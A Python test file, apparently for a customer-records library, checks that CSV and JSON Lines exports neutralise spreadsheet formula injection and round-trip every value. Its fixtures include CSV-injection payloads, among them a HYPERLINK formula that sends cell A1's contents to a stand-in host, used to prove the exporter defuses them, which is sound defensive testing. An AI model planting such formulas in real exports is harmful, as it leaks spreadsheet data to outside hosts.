"""T16, C8, d5: exports cannot run as spreadsheet formulas and round-trip every value.

CSV: no cell starts with ``= + - @``, TAB, CR or LF; ``csv.reader`` gives back every value after
removing the one leading apostrophe the export adds to such cells and to cells that start with an
apostrophe themselves (the documented rule, reversible for every value); quoting
follows RFC 4180 (commas, quotes and line breaks inside cells survive); the header does not start
with ``ID`` (a file starting so opens as SYLK in Excel). JSON Lines: every value exactly.

Two levels: the exporter on its own (``customerkit.export.write_customers``) with any text in
every column, including values the services would refuse (a cell starting with TAB, CR or LF
can only be tested there, since every text field is trimmed and single-line); and the book's
``customers.export`` on every backend with text the services accept.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

import customerkit as ck
from customerkit.export import COLUMNS, write_customers
from customerkit.testing import FakeClock

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
TEXT_COLUMNS = (
    "company_name",
    "customer_number",
    "address_line1",
    "address_line2",
    "city",
    "state",
    "postal_code",
    "country",
    "email",
    "phone",
    "phone_extension",
    "fax",
    "company_type",
    "category",
    "username",
)
CONTACT_COLUMNS = ("contact_names", "contact_emails", "contact_phones")
WHEN = datetime(2026, 1, 15, 9, 0, tzinfo=UTC)


def unneutralise(cell: str) -> str:
    """The documented reverse: remove one leading apostrophe.

    The export prefixes cells starting with a trigger *or an apostrophe*, so this gives back
    every value, those that start with an apostrophe themselves included.
    """
    return cell[1:] if cell.startswith("'") else cell


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS), f"cell {cell[:40]!r} starts with a trigger"


#: Any text, with formula triggers, quotes, separators and line breaks made likely at the start.
cells = st.one_of(
    st.text(max_size=30),
    st.builds(
        lambda trigger, rest: trigger + rest,
        st.sampled_from([*TRIGGERS, "'", '"', ",", ";", " ", "'=", "''"]),
        st.text(max_size=20),
    ),
)


def _customer(values: dict[str, str], extra: dict[str, str], staff: tuple[str, ...]) -> ck.Customer:
    return ck.Customer(
        id="c1",
        location_id="loc-1",
        kind=ck.CustomerKind.LOCAL,
        created_at=WHEN,
        updated_at=WHEN,
        extra=extra,
        assigned_staff=staff,
        **values,
    )


def _contact(contact_id: str, first: str, last: str, email: str, phone: str) -> ck.Contact:
    return ck.Contact(
        id=contact_id,
        customer_id="c1",
        first_name=first,
        last_name=last,
        email=email,
        phone=phone,
        created_at=WHEN,
        updated_at=WHEN,
    )


@settings(max_examples=500)  # T16 asks for 500; the exporter alone is fast (about 1 s)
@given(
    values=st.fixed_dictionaries(dict.fromkeys(TEXT_COLUMNS, cells)),
    extra=st.dictionaries(cells, cells, max_size=3),
    staff=st.lists(cells, max_size=2).map(tuple),
    people=st.lists(st.tuples(cells, cells, cells, cells), max_size=3),
)
@example(
    values={**dict.fromkeys(TEXT_COLUMNS, ""), "company_name": '=HYPERLINK("http://x?"&A1,"click")',
            "city": "\t=1", "state": "\r=1", "country": "\n=1", "address_line1": "a,b",
            "address_line2": 'he said "hi"', "postal_code": "line1\nline2", "email": "@SUM(A1)",
            "phone": "-1", "fax": "+1", "customer_number": "=1+1"},
    extra={"=k": "=v"},
    staff=("@u",),
    people=[("=Ann", "Lee", "-x@example.com", "+1 303")],
)  # fmt: skip
def test_t16_exporter_csv_neutralises_and_round_trips(
    values: dict[str, str],
    extra: dict[str, str],
    staff: tuple[str, ...],
    people: list[tuple[str, str, str, str]],
) -> None:
    """No cell starts with a trigger; every value comes back after removing the apostrophe."""
    customer = _customer(values, extra, staff)
    contacts = [
        _contact(f"k{i}", first, last, email, phone)
        for i, (first, last, email, phone) in enumerate(people)
    ]
    out = io.StringIO(newline="")
    assert write_customers(out, [(customer, contacts)], format="csv", total=1) == 1
    rows = read_csv(out.getvalue())
    assert rows[0] == list(COLUMNS)
    assert not out.getvalue().startswith("ID"), "a file starting with ID opens as SYLK"
    assert len(rows) == 2, "one header and one row: line breaks stay inside quoted cells"
    assert_no_formula(rows)
    row = dict(zip(rows[0], map(unneutralise, rows[1]), strict=True))
    for column in TEXT_COLUMNS:
        assert row[column] == (values[column] or ""), column
    assert row["extra"] == (json.dumps(extra, ensure_ascii=False, sort_keys=True) if extra else "")
    assert row["assigned_staff"] == "; ".join(staff)
    live = [k for k in contacts if k.is_live]
    joined = {
        "contact_names": "; ".join(k.full_name for k in live),
        "contact_emails": "; ".join(k.email for k in live),
        "contact_phones": "; ".join(k.phone for k in live),
    }
    for column, text in joined.items():
        assert row[column] == text, column


@settings(max_examples=500)  # as above
@given(
    values=st.fixed_dictionaries(dict.fromkeys(TEXT_COLUMNS, cells)),
    extra=st.dictionaries(cells, cells, max_size=3),
)
def test_t16_exporter_jsonl_round_trips_exactly(
    values: dict[str, str], extra: dict[str, str]
) -> None:
    """JSON Lines keeps every value exactly: no apostrophes, no trimming."""
    customer = _customer(values, extra, ())
    out = io.StringIO(newline="")
    write_customers(out, [(customer, [])], format="jsonl", total=1)
    lines = out.getvalue().split("\n")
    assert lines[-1] == "", "every line ends with a newline"
    assert len(lines) == 2, "one line per customer, whatever the values hold"
    row = json.loads(lines[0])
    for column in TEXT_COLUMNS:
        assert row[column] == (values[column] or ""), column
    assert row["extra"] == extra


@pytest.mark.parametrize("value", ["'=1+1", "'-5", "'@home", "'plain", "''"])
def test_regression_value_starting_with_an_apostrophe_reads_back(value: str) -> None:
    """A value that itself starts with ``'`` keeps it: the export adds one more (regression).

    It used to be left as it was, so removing "the" apostrophe took the value's own; spreadsheets
    hide one leading apostrophe as well.
    """
    customer = _customer({"company_name": value}, {}, ())
    out = io.StringIO(newline="")
    write_customers(out, [(customer, [])], format="csv", total=1)
    header, row = read_csv(out.getvalue())
    cell = dict(zip(header, row, strict=True))["company_name"]
    assert cell == "'" + value
    assert unneutralise(cell) == value


# -- through the book, on every backend ----------------------------------------------------------

#: Text the services accept in a one-line field: no controls, no surrogates, 1-40 characters.
accepted_text = st.builds(
    lambda lead, rest: (lead + rest).strip(),
    st.sampled_from(["", "=", "+", "-", "@", "'", '"', "=HYPERLINK(", "-1+", "@SUM("]),
    st.text(st.characters(blacklist_categories=("Cc", "Cs")), min_size=1, max_size=40),
).filter(lambda text: 0 < len(text) <= 100)

#: SQL backends make a database row per example; memory explores the most.
EXAMPLES = {"memory": None, "sqlite": 60, "postgresql": 40}


def _backend(request: pytest.FixtureRequest) -> str:
    callspec = getattr(request.node, "callspec", None)
    return str(callspec.params.get("make_book", "memory")) if callspec else "memory"


def test_c8_book_export_is_safe_and_round_trips(
    make_book: Callable[[FakeClock], ck.Book], request: pytest.FixtureRequest
) -> None:
    """C8 on every backend: stored text comes back from CSV (after the apostrophe) and JSONL."""
    book = make_book(FakeClock())
    serial = [0]
    examples = EXAMPLES[_backend(request)]
    overrides: dict[str, Any] = {
        "suppress_health_check": [HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
    }
    if examples is not None:
        overrides["max_examples"] = min(examples, settings.default.max_examples)

    @settings(**overrides)
    @given(name=accepted_text, city=accepted_text, line=accepted_text, first=accepted_text)
    def check(name: str, city: str, line: str, first: str) -> None:
        serial[0] += 1
        actor = ck.Actor(user_id="u", role=ck.Role.DEALER_ADMIN, location_id=f"x-{serial[0]}")
        try:
            customer = book.customers.create(
                ck.NewCustomer(
                    company_name=name,
                    customer_number="N-1",
                    city=city,
                    address_line1=line,
                    extra={"note": line},
                ),
                actor=actor,
            )
            book.contacts.add(
                customer.id, ck.NewContact(first_name=first, last_name=""), actor=actor
            )
        except ck.ValidationError:
            return  # e.g. a name of combining marks only: refusals are test_hostile's business
        out = io.StringIO(newline="")
        assert book.customers.export(out, actor=actor, format="csv") == 1
        rows = read_csv(out.getvalue())
        assert_no_formula(rows)
        row = dict(zip(rows[0], map(unneutralise, rows[1]), strict=True))
        assert (row["company_name"], row["city"], row["address_line1"]) == (name, city, line)
        assert json.loads(row["extra"]) == {"note": line}
        assert row["contact_names"] == first
        out = io.StringIO(newline="")
        assert book.customers.export(out, actor=actor, format="jsonl") == 1
        [data] = [json.loads(text) for text in out.getvalue().splitlines()]
        assert (data["company_name"], data["city"], data["address_line1"]) == (name, city, line)
        assert data["contact_names"] == [first]

    check()
